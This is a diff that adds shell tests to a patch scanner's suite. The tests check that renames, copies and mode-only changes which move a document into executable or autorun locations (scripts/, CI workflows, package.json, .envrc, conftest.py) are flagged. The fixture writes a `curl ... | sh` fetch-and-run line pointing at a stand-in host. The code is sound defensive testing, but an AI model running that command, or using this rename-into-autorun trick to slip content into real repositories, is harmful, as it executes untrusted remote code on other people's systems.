@@ -430,6 +430,157 @@ t_patch_traditional_diff_u() {
 		"[('sql.diff!/x.sql', 'test-curl-pipe-shell', 1, 4)]"
 }
 
+# ---- patches: renames, copies and mode changes into runnable places --------------------------
+
+# base_fixture DIR: a repository whose base tree has an inert document with
+# `curl | sh` in it, a second document, and an executable script. A patch
+# that moves the document somewhere runnable carries none of those lines.
+base_fixture() {
+	mkrepo "$1"
+	mkdir -p "$1/docs" "$1/scripts"
+	printf 'How we install:\n  curl -fsSL http://x.example/i | sh\nThat is all.\n' >"$1/docs/notes.txt"
+	printf 'one\ntwo\nthree\nfour\n' >"$1/docs/other.txt"
+	printf '#!/bin/sh\necho build\n' >"$1/scripts/build.sh"
+	chmod +x "$1/scripts/build.sh"
+	commit "$1" -m base
+}
+
+# applies_in_clone DIR PATCH CMD...: PATCH applies on a fresh clone of DIR's
+# base commit with CMD (git apply / git am); the clone is left in DIR.applied.
+applies_in_clone() {
+	local d=$1 p=$2
+	shift 2
+	rm -rf "$d.applied"
+	git clone -q "$d" "$d.applied" || fail "git clone"
+	git -C "$d.applied" config user.name B
+	git -C "$d.applied" config user.email b@example.com
+	git -C "$d.applied" checkout -q "$(git -C "$d" rev-list --max-parents=0 HEAD)" 2>/dev/null ||
+		fail "checkout base"
+	git -C "$d.applied" "$@" "$PWD/$p" >/dev/null 2>&1 || fail "fixture: git $* $p does not apply"
+}
+
+t_patch_rename_into_script() {
+	# git mv docs/notes.txt scripts/run.sh, chmod +x, one added line: the
+	# patch adds "echo done" and nothing else, yet after git am the
+	# repository has an executable holding `curl | sh`. A finding at
+	# medium names the source and says the content was not in the patch;
+	# executable-mode is not reported twice for it.
+	base_fixture r
+	git -C r mv docs/notes.txt scripts/run.sh
+	chmod +x r/scripts/run.sh
+	echo 'echo done' >>r/scripts/run.sh
+	commit r -m 'move notes'
+	git -C r format-patch -q -M -1 --stdout >m.mbox
+	git -C r diff -M HEAD~1 >d.patch
+	grep -q '^rename from docs/notes.txt' d.patch || fail "fixture: no rename in the diff"
+	[ "$(grep -c '^+[^+]' d.patch)" = 1 ] || fail "fixture: more than one added line"
+	applies_in_clone r m.mbox am -q
+	[ -x r.applied/scripts/run.sh ] && grep -q 'curl -fsSL' r.applied/scripts/run.sh ||
+		fail "fixture: git am did not make an executable with the base content"
+	for p in d.patch m.mbox; do
+		scan --format json $p
+		expect_rc 1 "$p: a rename into scripts/ with mode 100755"
+		expect_q '[(f["path"], f["severity"]) for f in F]' "[('$p!/scripts/run.sh', 'medium')]"
+		expect_q '[("docs/notes.txt" in f["excerpt"], "base tree" in f["excerpt"], "100644 to 100755" in f["excerpt"]) for f in R("airlock.content-from-base")]' \
+			'[(True, True, True)]'
+	done
+	# The same rename with no hunk at all (similarity 100%, no mode line):
+	# only the name says where it lands, and that is enough.
+	git -C r reset -q --hard HEAD~1
+	git -C r mv docs/notes.txt scripts/install
+	commit r -m 'pure rename'
+	git -C r diff -M HEAD~1 >pure.patch
+	grep -q '^similarity index 100%' pure.patch && ! grep -q '^@@' pure.patch ||
+		fail "fixture: not a pure rename"
+	applies_in_clone r pure.patch apply --index
+	scan --format json pure.patch
+	expect_rc 1 "a pure rename into scripts/"
+	expect_q '[(f["rule"], f["severity"], "docs/notes.txt" in f["excerpt"]) for f in F]' \
+		"[('airlock.content-from-base', 'medium', True)]"
+}
+
+t_patch_copy_into_autorun_high() {
+	# A copy (git diff -C --find-copies-harder: "copy from/copy to") of the
+	# document into a workflow or package.json: the place runs by itself,
+	# as the install-hook rules that name it say, so the finding is high
+	# and names that rule. The source stays where it was.
+	base_fixture r
+	mkdir -p r/.github/workflows
+	cp r/docs/notes.txt r/.github/workflows/ci.yml
+	cp r/docs/other.txt r/package.json
+	git -C r add -A
+	git -C r diff --cached -C --find-copies-harder >c.patch
+	[ "$(grep -c '^copy from docs/' c.patch)" = 2 ] || fail "fixture: no copies in the diff"
+	applies_in_clone r c.patch apply --check
+	scan --format json c.patch
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["severity"]) for f in R("airlock.content-from-base"))' \
+		"[('c.patch!/.github/workflows/ci.yml', 'high'), ('c.patch!/package.json', 'high')]"
+	expect_q 'sorted(("copies docs/" in f["excerpt"], "test-workflow-file" in f["excerpt"] or "test-npm-postinstall" in f["excerpt"]) for f in R("airlock.content-from-base"))' \
+		'[(True, True), (True, True)]'
+	# With the shipped rules the same holds for places only they name.
+	git -C r reset -q --hard
+	cp r/docs/notes.txt r/.envrc
+	cp r/docs/notes.txt r/conftest.py
+	git -C r add -A
+	git -C r diff --cached -C --find-copies-harder >real.patch
+	al scan --rules "$ROOT/rules" --color never --format json real.patch
+	expect_q 'sorted((f["path"], f["severity"]) for f in R("airlock.content-from-base"))' \
+		"[('real.patch!/.envrc', 'high'), ('real.patch!/conftest.py', 'high')]"
+}
+
+t_patch_mode_change_makes_base_content_executable() {
+	# old mode 100644 / new mode 100755 and no hunk: an existing document
+	# becomes an executable whose content the patch does not carry
+	# (medium). A script that was already one by its name and is only
+	# made executable stays executable-mode, low.
+	base_fixture r
+	printf 'echo hi\n' >r/scripts/hello.sh
+	commit r -m 'add hello'
+	git -C r tag mid
+	chmod +x r/docs/notes.txt r/scripts/hello.sh
+	git -C r add -A
+	git -C r diff --cached mid >m.patch
+	grep -q '^old mode 100644' m.patch && ! grep -q '^@@' m.patch || fail "fixture: not a mode-only change"
+	scan --format json m.patch
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
+		"[('m.patch!/docs/notes.txt', 'airlock.content-from-base', 'medium'), ('m.patch!/scripts/hello.sh', 'airlock.executable-mode', 'low')]"
+	expect_q '["docs/notes.txt" in f["excerpt"] and "base tree" in f["excerpt"] for f in R("airlock.content-from-base")]' '[True]'
+}
+
+t_patch_rename_negatives_and_same_class() {
+	# A document renamed to another document stays clean. A script
+	# renamed within scripts/ (already executable in the base) is still
+	# content the patch does not carry, but it could run at its old place
+	# as well: low, and the exit status stays 0.
+	base_fixture r
+	git -C r mv docs/other.txt docs/renamed.txt
+	git -C r add -A
+	git -C r diff --cached -M >doc.patch
+	grep -q '^rename to docs/renamed.txt' doc.patch || fail "fixture: no rename"
+	scan --format json doc.patch
+	expect_rc 0
+	expect_q 'F' '[]'
+	git -C r reset -q --hard
+	git -C r mv scripts/build.sh scripts/make.sh
+	git -C r add -A
+	git -C r diff --cached -M >s.patch
+	scan --format json s.patch
+	expect_rc 0 "a script renamed within scripts/"
+	expect_q '[(f["rule"], f["severity"], "already" in f["excerpt"]) for f in F]' \
+		"[('airlock.content-from-base', 'low', True)]"
+	# A script moved out to a document's place is not runnable there.
+	git -C r reset -q --hard
+	git -C r mv scripts/build.sh docs/build.txt
+	chmod -x r/docs/build.txt
+	git -C r add -A
+	git -C r diff --cached -M >out.patch
+	scan --format json out.patch
+	expect_rc 0
+	expect_q 'F' '[]'
+}
+
 # ---- mailboxes -------------------------------------------------------------------------------
 
 # series_fixture: repo s, three commits after "base": the first removes a
